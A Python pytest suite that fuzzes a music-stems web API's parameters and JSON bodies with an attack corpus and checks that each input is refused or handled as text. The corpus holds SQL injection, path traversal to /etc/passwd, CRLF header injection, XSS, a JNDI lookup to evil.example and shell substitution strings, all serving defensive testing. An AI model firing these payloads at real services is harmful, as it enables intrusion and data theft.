"""What attackers send, in every parameter of every route: it is refused, or it is text like any other."""

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import httpx
import pytest

from functions.api_document import document
from tests.conftest import Cloud
from tests.integration.http_library import Song, make_song, signed_in, stem_body, upload

CORPUS: dict[str, bytes] = {
    "SQL quote": b"' OR 1=1 --",
    "SQL double quote": b'" OR c.audioFileId != "',
    "SQL call": b"C') OR ARRAY_CONTAINS(c.keys, 'C'",
    "SQL parameter": b"@status",
    "SQL comment": b"C/**/OR/**/true",
    "SQL statement": b"SELECT * FROM c",
    "traversal": b"../../../etc/passwd",
    "encoded traversal": b"..%2f..%2f..%2fetc%2fpasswd",
    "twice encoded traversal": b"%252e%252e%252fetc",
    "backslashes": b"..\\..\\windows\\win.ini",
    "address": b"file:///etc/passwd",
    "header": b"C\r\nSet-Cookie: stolen=1\r\n\r\n<script>",
    "line feed": b"C\nX-Injected: 1",
    "script": b"<script>alert(1)</script>",
    "template": b"{{7*7}}${jndi:ldap://evil.example/a}",
    "shell": b"$(id)`id`;id",
    "NUL": b"C\x00",
    "lone surrogate": b"\xed\xa0\x80",
    "overlong": b"\xc0\xae\xc0\xae/",
    "right to left": "\u202eC major".encode(),
    "look-alike": "Ｃ＃ ｍａｊｏｒ".encode(),
    "combining": ("C" + "\u0301" * 200).encode(),
    "huge number": b"9" * 400,
    "huge exponent": b"1e309",
    "negative": b"-9223372036854775809",
    "not a number": b"NaN",
    "prototype": b"__proto__",
    "long key": b"C" * 10_000,
}
USERS = {"Read": "reader", "Write": "writer", "Worker": "worker"}
OPERATIONS = [
    (method.upper(), path, operation)
    for path, methods in document()["paths"].items()
    for method, operation in methods.items()
    if operation["x-roles"]
]
SCHEMAS: dict[str, Any] = document()["components"]["schemas"]
NAMES = [f"{method} {path}" for method, path, _ in OPERATIONS]
LINE_LIMIT = 8000
"""Servers take no longer request lines, and say so without the app."""


@pytest.fixture(scope="module")
def http(guarded: Cloud) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=guarded.api, timeout=30) as opened:
        yield opened


@pytest.fixture(scope="module")
def song(http: httpx.Client) -> Song:
    return make_song(http)


def example(parameter: dict[str, Any], song: Song, path: str) -> str:
    if parameter["name"] == "id":
        return {"audio": song.id, "stems": song.stems[0], "jobs": song.job_id}[path.split("/")[2]]
    return str(parameter["example"])


def check(answer: httpx.Response, payload: bytes) -> None:
    """The answer is one that the app means, and the payload has not become part of it by force."""
    assert answer.status_code < 500, answer.text
    assert not {"set-cookie", "x-injected"} & answer.headers.keys()
    assert "Traceback" not in answer.text
    assert "root:" not in answer.text
    if answer.status_code >= 400 and len(payload) < LINE_LIMIT:
        assert answer.headers["content-type"] == "application/problem+json"
        assert answer.json()["status"] == answer.status_code


@pytest.mark.parametrize(("method", "path", "operation"), OPERATIONS, ids=NAMES)
@pytest.mark.parametrize("place", ["path", "query", "header"])
def test_parameters(
    http: httpx.Client, song: Song, method: str, path: str, operation: dict[str, Any], place: str
):
    headers = signed_in(USERS[operation["x-roles"][0]])
    known = {
        found["name"]: quote(example(found, song, path), safe="")
        for found in operation["parameters"]
        if found["in"] == "path"
    }
    if method == "DELETE":
        known["id"] = "00000000-0000-0000-0000-000000000000"
    for parameter in operation["parameters"]:
        name = parameter["name"]
        for payload in CORPUS.values() if parameter["in"] == place else ():
            if place == "path":
                answer = http.request(
                    method, path.format(**{**known, name: quote(payload, safe="")}), headers=headers
                )
                refused = {400, 404, 405, 414}
            elif place == "query":
                address = f"{path.format(**known)}?{name}={quote(payload, safe='')}"
                answer = http.request(method, address, headers=headers)
                refused = {400, 414}
            else:
                if not payload.isascii() or not payload.decode().isprintable():
                    continue  # no client can send it as a header
                answer = http.request(
                    method, path.format(**known), headers={**headers, name: payload.decode()}
                )
                refused = {400} if name == "If-Match" or len(payload) > LINE_LIMIT else {200}
            check(answer, payload)
            assert answer.status_code in refused, (name, payload, answer.text)
            if place == "query" and answer.status_code == 400 and len(payload) < 4000:
                assert answer.json().get("errors", [{"field": name}])[0]["field"] == name


@pytest.mark.parametrize(
    ("path", "operation"),
    [(path, operation) for _, path, operation in OPERATIONS if "requestBody" in operation],
    ids=[
        name for name, (_, _, operation) in zip(NAMES, OPERATIONS, strict=True) if "requestBody" in operation
    ],
)
def test_bodies(http: httpx.Client, song: Song, path: str, operation: dict[str, Any]):
    content = operation["requestBody"]["content"]["application/json"]
    body = dict(content["example"])
    if path == "/api/stems":
        body = stem_body(upload(http), "Bass")
    schema = SCHEMAS[content["schema"]["$ref"].rpartition("/")[2]]
    headers = {**signed_in(USERS[operation["x-roles"][0]]), "Content-Type": "application/json"}
    address = path.format(id="00000000-0000-0000-0000-000000000000")
    for name in (*schema["properties"], "unknownField"):
        for label, payload in CORPUS.items():
            # A lone surrogate has no UTF-8, but JSON can spell it.
            text = json.dumps("\ud800" if label == "lone surrogate" else payload.decode(errors="replace"))
            written = json.dumps({**body, name: "?"}).replace('"?"', text, 1)
            answer = http.post(address, content=written.encode(), headers=headers)
            check(answer, payload)
            assert answer.status_code in {200, 201, 400, 404, 409, 413}, (name, label, answer.text)
            if name == "unknownField" or label == "lone surrogate":
                assert answer.status_code == 400
            if answer.status_code == 201 and name == "fileName":
                ticket = answer.json()
                blob = unquote(urlsplit(ticket["uploadUrl"]).path)
                assert blob.endswith(f"/audio-files/{ticket['audioFileId']}/{json.loads(text)}")
            elif answer.status_code in (200, 201) and answer.json().get(name) is not None:
                assert answer.json()[name] == json.loads(text)


def test_nothing_has_changed(http: httpx.Client, song: Song):
    assert http.get("/api/health").status_code == 200
    stems = http.get(f"/api/audio/{song.id}/stems", headers=signed_in("reader")).json()["value"]
    assert [stem["id"] for stem in stems] == song.stems
